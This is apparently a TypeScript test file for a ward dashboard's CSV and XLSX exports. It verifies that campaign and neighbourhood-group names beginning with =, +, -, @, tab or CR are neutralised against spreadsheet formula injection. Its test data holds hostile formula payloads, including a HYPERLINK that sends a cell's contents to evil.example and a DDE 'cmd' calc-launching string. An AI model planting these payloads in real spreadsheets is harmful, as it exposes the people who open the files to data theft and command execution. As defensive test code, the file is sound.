// CSV formula injection (issue 10, defect 6): campaign names come from any phone and tổ dân
// phố names from the ward admin; a cell starting with =, +, -, @, tab or CR must reach Excel as
// text. On main both CSV exports wrote them as they were (these tests failed there). The
// figures the exporters write themselves stay numbers, and the XLSX exports keep text as text.
import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvDocument, figure, neutraliseCsvText } from '../../src/server/services/csv.js';
import { validAssistance } from '../helpers/assistance-fixtures.js';
import { get, send, signIn } from '../helpers/dashboard.js';
import { batch, householdRecord, WARD } from '../helpers/records.js';
import { sqliteBackend } from '../helpers/server-db.js';
import { startTestServer, type TestServer } from '../helpers/test-server.js';

const EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('the CSV helper', () => {
  it('prefixes a single quote to text starting with =, +, -, @, tab or CR, and only to those', () => {
    for (const text of EVIL) expect(neutraliseCsvText(text)).toBe(`'${text}`);
    for (const text of ['Tổ 1', 'TDP03', '', '1=1', 'a-b', "'quoted"]) expect(neutraliseCsvText(text)).toBe(text);
  });

  it('writes numbers and figures the exporter formatted as they are, negative ones too', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(figure('-3,5%'))).toBe('"-3,5%"');
    expect(csvCell('-3,5%')).toBe(`"'-3,5%"`);
    expect(csvDocument([['a', 1], [figure('x;y')]])).toBe('\uFEFFa,1\r\n"x;y"\r\n');
  });
});

describe('CSV and XLSX exports with formula-like names', () => {
  let t: TestServer;
  let staff: string;

  beforeAll(async () => {
    t = await startTestServer(sqliteBackend);
    const admin = await signIn(t, WARD, 'ward_admin');
    staff = admin.token;
    const groups = [
      { code: 'TDP01', name: EVIL[0], householdsOnRegister: 100 },
      { code: 'TDP02', name: EVIL[3], householdsOnRegister: 80 },
      { code: 'TDP03', name: 'Tổ dân phố 3', householdsOnRegister: 50 },
    ];
    const res = await send(t, staff, 'PUT', `/api/v1/wards/${WARD}/groups`, { groups });
    expect(res.statusCode).toBe(200);
    const device = await t.enrol(WARD);
    const assists = EVIL.slice(0, 4).map((campaign) => {
      const a = validAssistance();
      a.id = randomUUID();
      a.data.campaign = campaign;
      delete a.data.groupCode;
      delete a.data.household;
      return a;
    });
    const synced = await t.sync(device.token, batch([...assists, householdRecord({ seed: 1, groupCode: 'TDP01' })]));
    expect(synced.json().results.map((r: { status: string }) => r.status)).toEqual(['accepted', 'accepted', 'accepted', 'accepted', 'accepted']);
  }, 60_000);
  afterAll(async () => {
    await t?.close();
  });

  /** The cells of a CSV as a spreadsheet sees them (quotes removed). */
  function cells(text: string): string[] {
    const out: string[] = [];
    const re = /(?:^|,)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/gm;
    for (const m of text.replace(/^\uFEFF/, '').matchAll(re)) out.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]!);
    return out;
  }

  it('indicator CSV: tổ dân phố names neutralised, counts still numbers', async () => {
    const res = await get(t, staff, `/api/v1/wards/${WARD}/export.csv?asOf=2026-11-30`);
    expect(res.statusCode).toBe(200);
    const all = cells(res.body);
    expect(all).toContain(`'${EVIL[0]}`);
    expect(all).toContain(`'${EVIL[3]}`);
    expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(res.body).toMatch(/\r\nTDP03,Tổ dân phố 3,50,0,0,0/);
  });

  it('assistance CSV: campaign names neutralised, counts still numbers', async () => {
    const res = await get(t, staff, `/api/v1/wards/${WARD}/assistances/export.csv`);
    expect(res.statusCode).toBe(200);
    const all = cells(res.body);
    for (const campaign of EVIL.slice(0, 4)) expect(all).toContain(`'${campaign}`);
    expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(res.body).toMatch(/\r\nTổng số lượt hỗ trợ,4,4,0,0\r\n/);
  });

  it('XLSX exports keep those names as plain text cells, never formulas', async () => {
    for (const url of [`/api/v1/wards/${WARD}/export.xlsx?asOf=2026-11-30`, `/api/v1/wards/${WARD}/assistances/export.xlsx`]) {
      const res = await get(t, staff, url);
      expect(res.statusCode).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const seen: string[] = [];
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
            if (typeof cell.value === 'string' && EVIL.includes(cell.value)) seen.push(cell.value);
          }),
        ),
      );
      expect(seen.length).toBeGreaterThan(0);
    }
  });
});
